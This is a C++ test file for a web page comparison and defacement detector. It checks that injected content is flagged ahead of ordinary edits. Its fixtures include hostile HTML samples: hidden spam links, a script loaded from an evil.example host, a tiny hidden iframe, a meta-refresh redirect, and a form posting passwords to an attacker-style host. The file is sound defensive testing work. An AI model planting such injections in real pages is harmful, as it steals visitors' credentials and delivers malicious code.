// DL-5.3: what changed between two copies of a page, the suspicious first.
#include "core/page/comparison.h"

#include <doctest/doctest.h>

#include <array>
#include <string>

#include "tests/test_data.h"

using namespace sokenh;
using namespace sokenh::page;

namespace {

PageOutline read(std::string_view bytes) {
  Result<PageOutline> page = read_page(bytes);
  REQUIRE(page.has_value());
  return std::move(*page);
}

PageOutline of_body(const std::string& body) {
  return read("<!-- saved from url=(0023)https://truong.edu.vn/ --><html><body>" + body +
              "</body></html>");
}

// «kind: text address»
std::string shown(const Change& change) {
  std::string out(change_kind_key(change.kind));
  for (const std::string* part : {&change.text, &change.before, &change.address, &change.words}) {
    if (!part->empty()) out += " | " + *part;
  }
  return out;
}

std::string first_change(const PageOutline& before, const PageOutline& now) {
  const Comparison comparison = compare_pages(before, now);
  return comparison.changes.empty() ? "none" : shown(comparison.changes.front());
}

// Pages whose bytes are ASCII around the place where things are put in.
constexpr std::array<std::string_view, 15> kPages{
    "semantic.html", "table-2010.html",           "nested-divs.html",    "entities.html",
    "nfd.html",      "image-footer.html",         "english.html",        "word.html",
    "minified.html", "footer-in-the-middle.html", "unclosed.html",       "inline-styles.html",
    "lacking.html",  "windows-1258.html",         "protected-email.html"};

struct Injection {
  std::string_view html;
  ChangeKind first;
};
const std::array kInjections{
    Injection{"<div style=\"display:none\"><a href=\"https://nhacai88.example.com/\">nha cai uy "
              "tin</a></div>",
              ChangeKind::bad_words},
    Injection{"<a href=\"https://tai-xiu-online.example.net/\">Xem ngay</a>",
              ChangeKind::bad_words},
    Injection{"<p>N&#7893; h&#361; &#273;&#7893;i th&#432;&#7903;ng 2026</p>",
              ChangeKind::bad_words},
    Injection{"<script src=\"https://cdn.evil.example.org/a.js\"></script>", ChangeKind::script},
    Injection{"<script>var a=document.createElement('a');</script>", ChangeKind::inline_script},
    Injection{"<iframe src=\"https://evil.example.org/\" width=\"1\" height=\"1\"></iframe>",
              ChangeKind::frame},
    Injection{"<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example.org/\">",
              ChangeKind::redirect},
    Injection{"<form action=\"https://evil.example.org/in\"><input name=\"u\"><input "
              "type=\"password\" name=\"p\"></form>",
              ChangeKind::password_asked},
    Injection{"<div style=\"position:absolute;left:-9999px\"><a "
              "href=\"https://seo.example.org/\">x</a></div>",
              ChangeKind::hidden_link},
    Injection{"<span style=\"font-size:0px\">dich vu gia re</span>", ChangeKind::hidden_text},
    Injection{"<a href=\"https://new.example.org/\">Xem</a>", ChangeKind::outside_link},
};

// Before the closing tag of the body, or at the end of a page without one.
std::string injected(const std::string& page, std::string_view html) {
  const std::size_t at = page.find("</body>");
  std::string out = page;
  // In an open raw text or tag nothing could be put; these pages end outside of both.
  out.insert(at == std::string::npos ? out.size() : at, html);
  return out;
}

}  // namespace

TEST_CASE("DL-5.3: the same page has not changed") {
  for (const std::string_view file : kPages) {
    CAPTURE(file);
    const std::string bytes = test_data("pages/" + std::string(file));
    CHECK(compare_pages(read(bytes), read(bytes)).changes.empty());
    CHECK(find_suspicious(read(bytes)).empty());
  }
}

TEST_CASE("DL-5.3: what was put into a page comes first, whatever else changed") {
  for (const std::string_view file : kPages) {
    const std::string bytes = test_data("pages/" + std::string(file));
    const PageOutline before = read(bytes);
    for (const Injection& injection : kInjections) {
      CAPTURE(file);
      CAPTURE(injection.html);
      // News came in as well.
      const std::string later = injected(
          bytes, "<p>Tin moi trong ngay</p>" + std::string(injection.html) + "<p>Tin khac</p>");
      const Comparison comparison = compare_pages(before, read(later));
      REQUIRE_FALSE(comparison.changes.empty());
      CHECK(change_kind_key(comparison.changes.front().kind) == change_kind_key(injection.first));
      CHECK(comparison.suspicious >= 1);
      CHECK(comparison.changes.size() > comparison.suspicious);
    }
  }
}

TEST_CASE("DL-5.3: a form that sends elsewhere, and one that asks for a password now") {
  const PageOutline before =
      of_body("<form action=\"/dang-nhap\"><input name=\"ten\"><input name=\"ma\"></form>");
  CHECK(first_change(before, of_body("<form action=\"https://evil.example.org/\"><input "
                                     "name=\"ten\"><input name=\"ma\"></form>")) ==
        "form_target | text ten, text ma | /dang-nhap | https://evil.example.org/");
  CHECK(first_change(before, of_body("<form action=\"/dang-nhap\"><input name=\"ten\"><input "
                                     "type=\"password\" name=\"ma\"></form>")) ==
        "password_asked | text ten, password ma | /dang-nhap");
  CHECK(first_change(before, of_body("<p>1</p>")) == "text_added | 1");
}

TEST_CASE("DL-5.3: texts that moved are no change, texts in one place are one") {
  const PageOutline before = of_body("<p>a</p><p>b</p><p>c</p><p>d</p>");
  CHECK(first_change(before, of_body("<p>d</p><p>a</p><p>c</p><p>b</p>")) == "none");
  CHECK(first_change(before, of_body("<p>a</p><p>B moi</p><p>c</p><p>d</p>")) ==
        "text_changed | B moi | b");
  CHECK(first_change(before, of_body("<p>a</p><p>b</p><p>c</p>")) == "text_removed | d");
  CHECK(first_change(before, of_body("<p>a</p><p>a</p><p>b</p><p>c</p><p>d</p>")) ==
        "text_added | a");
}

TEST_CASE("DL-5.3: what every visit changes is not suspicious") {
  const PageOutline before = of_body(
      "<script>var t=1763000000000;start(t)</script><script src=\"/js/a.js?v=1\"></script>"
      "<iframe src=\"https://youtube.com/embed/1\" width=\"560\"></iframe><p>Tin</p>");
  const PageOutline now = of_body(
      "<script>var t=1764000000123;start(t)</script><script src=\"/js/a.js?v=2\"></script>"
      "<iframe src=\"https://youtube.com/embed/2\" width=\"560\"></iframe><p>Tin</p>"
      "<a href=\"/tin/2\">Tin hai</a><a href=\"https://anh.truong.edu.vn/\">Anh</a>");
  const Comparison comparison = compare_pages(before, now);
  for (const Change& change : comparison.changes) CAPTURE(shown(change));
  CHECK(comparison.suspicious == 0);
}

TEST_CASE("DL-5.3: text that was seen and is hidden now") {
  CHECK(first_change(of_body("<p>Lien he</p>"),
                     of_body("<p style=\"color:#fff;background:#FFFFFF\">Lien he</p>")) ==
        "hidden_text | Lien he");
}

TEST_CASE("DL-5.3: copies saved in two ways say so") {
  const PageOutline html = read(test_data("pages/semantic.html"));
  const PageOutline mht = read(test_data("pages/hung-vuong.mht"));
  CHECK(compare_pages(html, mht).other_container);
  CHECK_FALSE(compare_pages(html, html).other_container);
}

TEST_CASE("A page that is suspicious by itself: before it becomes a baseline") {
  CHECK(find_suspicious(of_body("<p>Tin</p>")).empty());
  CHECK(find_suspicious(of_body("<p>Tài xỉu online</p>")).size() == 1);
  CHECK(find_suspicious(of_body("<div style=\"display:none\"><a "
                                "href=\"https://x.example.com/\">x</a></div>"))
            .size() == 1);
  CHECK(
      find_suspicious(of_body("<meta http-equiv=refresh content=\"0;url=https://x.example.com\">"))
          .size() == 1);
}
